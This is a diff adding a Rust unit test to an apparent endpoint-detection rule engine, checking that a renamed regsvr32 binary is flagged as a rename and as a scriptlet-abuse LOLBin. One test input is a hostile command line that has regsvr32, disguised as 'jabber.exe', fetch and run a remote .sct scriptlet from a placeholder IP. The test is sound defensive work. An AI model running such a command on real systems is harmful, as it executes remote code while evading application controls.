@@ -1349,3 +1349,42 @@ fn archive_extraction_taskcache_edits_and_remoting_fire_and_near_misses_do_not()
         "ps-remoting-session"
     ));
 }
+
+/// A renamed LOLBin is what it was built as: Sysmon's OriginalFileName keeps the name, so the
+/// regsvr32 scriptlet rule fires on `jabber.exe`, and the rename itself is a finding.
+#[test]
+fn renamed_lolbins_are_known_by_their_original_name() {
+    let e = EvidenceRef {
+        member: "records/execution_events.jsonl".into(),
+        line: 1,
+        source_path: None,
+        file_member: None,
+        sha256: None,
+    };
+    let renamed = Observation::new(ObservationKind::ProcessEvent, e.clone())
+        .image(Some(r"C:\Users\bob\AppData\Local\Temp\jabber.exe"))
+        .original_name(Some("REGSVR32.EXE"))
+        .command_line(Some(
+            r"jabber.exe /u /s /i:http://198.51.100.7/a.sct .\jabber.dll",
+        ));
+    let f = findings_for(&[renamed]);
+    let ids = rule_ids(&f);
+    assert!(ids.contains(&"renamed-system-binary"), "{ids:?}");
+    assert!(ids.contains(&"lolbin-regsvr32-scriptlet"), "{ids:?}");
+    // The same binary under its own name, or an unknown original name, is no rename.
+    for (image, original) in [
+        (r"C:\Windows\System32\regsvr32.exe", "REGSVR32.EXE"),
+        (
+            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+            "PowerShell.EXE.MUI",
+        ),
+        (r"C:\Tools\thing.exe", "-"),
+    ] {
+        let o = Observation::new(ObservationKind::ProcessEvent, e.clone())
+            .image(Some(image))
+            .original_name(Some(original))
+            .command_line(Some(image));
+        let f = findings_for(&[o]);
+        assert!(!rule_ids(&f).contains(&"renamed-system-binary"), "{image}");
+    }
+}
